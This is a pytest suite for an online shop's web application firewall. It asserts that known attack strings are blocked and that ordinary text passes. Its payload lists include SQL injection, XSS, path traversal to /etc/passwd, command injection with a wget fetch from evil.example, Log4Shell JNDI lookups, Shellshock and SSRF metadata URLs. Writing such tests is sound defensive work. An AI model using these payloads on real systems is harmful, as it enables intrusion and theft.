"""What the core rules refuse, and what they let pass that only looks like an attack."""

from urllib.parse import quote

import pytest

from shop.stack.edge import Edge
from tests.integration.edge.harness import Gateway, ask, json_request, request

ATTACKS = {
    "sql, always true": "' OR 1=1--",
    "sql, quoted": "1' AND '1'='1",
    "sql, union": "1 UNION SELECT password_hash FROM users--",
    "sql, stacked": "1'; DROP TABLE orders; --",
    "sql, timed": "1 AND SLEEP(5)",
    "sql, commented": "1/**/UNION/**/SELECT/**/1,2,3",
    "script": "<script>alert(1)</script>",
    "script, in an event": "<img src=x onerror=alert(1)>",
    "script, in svg": "<svg/onload=alert(1)>",
    "script, in a link": "javascript:alert(document.cookie)",
    "path, climbing": "../../../../etc/passwd",
    "path, encoded": "..%2f..%2f..%2fetc%2fpasswd",
    "path, of the system": "/etc/shadow",
    "path, of windows": "..\\..\\windows\\win.ini",
    "command, after a semicolon": "; cat /etc/passwd",
    "command, in a pipe": "| whoami",
    "command, in a shell": "$(wget http://evil.example/x.sh)",
    "command, shellshock": "() { :; }; echo vulnerable",
    "log4shell": "${jndi:ldap://evil.example/a}",
    "log4shell, hidden": "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    "a server's own address": "http://169.254.169.254/latest/meta-data/",
    "a file by its url": "file:///etc/passwd",
    "php wrapper": "php://filter/convert.base64-encode/resource=index.php",
    "php code": "<?php system('id'); ?>",
    "node": "require('child_process').exec('id')",
    "java": "java.lang.Runtime.getRuntime().exec('id')",
    "a header in a value": "x\r\nSet-Cookie: a=b",
}
HARMLESS = {
    "a language": "c++",
    "an address": "a@b",
    "a parenthesis": "(",
    "a plus": "+",
    "a name": "O'Brien",
    "a street": "12/3 MG Road, 2nd Floor; c/o Dr. D'Souza",
    "an address with a quote": "o'brien+shop@example.com",
    "music": "rock 'n' roll",
    "jeans": "Levi's 501",
    "cloth": "100% cotton",
    "a flag": "union jack flag",
    "words of sql": "select the drop table lamp or where to join us",
    "a template": "{{7*7}}",
    "a comparison": 'It\'s 5 < 6 && 7 > 3; "quoted" (really!) #1 = best -- ever',
    "a note": "Please leave at door #4; ring & wait. Don't drop it!",
    "another script": "\u0939\u093f\u0928\u094d\u0926\u0940 \U0001f69a",
}


def blocked(edge: Edge, sent: bytes) -> bool:
    answer = ask(edge, sent)
    if answer.status == 200:
        return False
    assert (answer.status, answer.problem["code"]) == (403, "blocked_by_firewall")
    return True


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_attack_is_refused_in_the_query_and_in_the_body(
    edge: Edge, gateways: tuple[Gateway, Gateway], text: str
) -> None:
    assert blocked(edge, request(target=f"/api/products/search?q={quote(text)}"))
    assert blocked(edge, json_request("/api/products", {"name": "Kettle", "description": text}))
    assert blocked(edge, json_request("/api/products", {"a": [{"b": {"c": text}}]}, "PATCH"))
    assert not [one for gateway in gateways for one in gateway.received]


@pytest.mark.parametrize("text", HARMLESS.values(), ids=HARMLESS.keys())
def test_what_people_write_passes_in_the_query_and_in_the_body(edge: Edge, text: str) -> None:
    assert not blocked(edge, request(target=f"/api/products/search?q={quote(text)}"))
    assert not blocked(edge, json_request("/api/products", {"name": text, "description": text}))
    assert not blocked(edge, json_request("/api/users/1", {"fullName": text}, "PUT"))


@pytest.mark.parametrize(
    "target",
    [
        "/api/products/../../etc/passwd",
        "/api/products/%2e%2e/%2e%2e/etc/passwd",
        "/.git/config",
        "/.env",
        "/wp-config.php.bak",
        "/api/products?name=%00",
    ],
)
def test_an_attack_in_the_path_is_refused(
    edge: Edge, gateways: tuple[Gateway, Gateway], target: str
) -> None:
    assert ask(edge, request(target=target)).status in (400, 403)
    assert not [one for gateway in gateways for one in gateway.received]


@pytest.mark.parametrize(
    "header",
    [
        "User-Agent: () { :; }; /bin/bash -c id",
        "User-Agent: sqlmap/1.5",
        "X-Note: ${jndi:ldap://evil.example/a}",
        "Referer: <script>alert(1)</script>",
        "Cookie: a=' OR 1=1--",
    ],
)
def test_an_attack_in_a_header_is_refused(edge: Edge, header: str) -> None:
    assert blocked(edge, request(headers=f"{header}\r\n"))


@pytest.mark.parametrize("member", ["password", "currentPassword", "newPassword"])
@pytest.mark.parametrize("text", ["' OR 1=1--", "<script>alert(1)</script>", "; cat /etc/passwd"])
def test_a_password_may_be_any_text(edge: Edge, member: str, text: str) -> None:
    assert not blocked(edge, json_request("/api/auth/login", {"email": "a@b.c", member: text}))
    assert not blocked(edge, json_request("/api/users/1/password", {member: text}))


def test_a_member_called_password_hides_an_attack_nowhere_else(edge: Edge) -> None:
    assert blocked(edge, json_request("/api/products", {"password": "' OR 1=1--"}))
    assert blocked(edge, json_request("/api/auth/login", {"email": "' OR 1=1--", "password": "x"}))


def test_an_amount_at_the_brink_of_32_bits_is_a_price(edge: Edge) -> None:
    assert not blocked(edge, json_request("/api/products", {"amount": 2**31}))


def test_a_product_file_is_data_and_its_address_is_not(edge: Edge) -> None:
    csv = b"name,description\r\nKettle,' OR 1=1-- <script>alert(1)</script>\r\n" * 1000
    headers = "Content-Type: text/csv\r\n"

    assert not blocked(edge, request("POST", "/api/products/import", headers, csv))
    sly = "/api/products/import?name=" + quote("' OR 1=1--")
    assert blocked(edge, request("POST", sly, headers, csv))
    assert blocked(edge, request("POST", "/api/products", "Content-Type: text/html\r\n", csv))


@pytest.mark.parametrize("body", [b'{"a": NaN}', b"{", b'{"a": "\xff"}', b"[" * 100 + b"]" * 100])
def test_a_body_that_cannot_be_judged_is_not_passed_on(
    edge: Edge, gateways: tuple[Gateway, Gateway], body: bytes
) -> None:
    sent = request("POST", "/api/users", "Content-Type: application/json\r\n", body)

    assert ask(edge, sent).status == 400
    assert not [one for gateway in gateways for one in gateway.received]


@pytest.mark.parametrize(
    "sent",
    [
        request(headers=f"Authorization: Bearer {'eyJhbGciOiJFUzI1NiJ9.' * 20}\r\n"),
        request("DELETE", "/api/cart/1", 'If-Match: "3-a"\r\n'),
        request(
            "POST",
            "/api/payments/webhook",
            "Content-Type: application/json\r\nX-Signature: t=1,v1=9f86d081884c7d65\r\n"
            "Idempotency-Key: 0b7e6a3e-5d1c-4f0e-9c57-1f6f9d9f5a11\r\n",
            b'{"type": "payment.captured", "data": {"amount": 49900}}',
        ),
        request("OPTIONS", headers="Origin: https://shop.example\r\n"),
        request("HEAD"),
    ],
)
def test_what_the_shop_itself_sends_passes(edge: Edge, sent: bytes) -> None:
    assert ask(edge, sent).status == 200


def test_a_large_order_passes(edge: Edge) -> None:
    line = {"variantId": "0192f0c4-0000-7000-8000-000000000000", "quantity": 1}

    assert not blocked(edge, json_request("/api/orders", {"items": [line] * 100}))
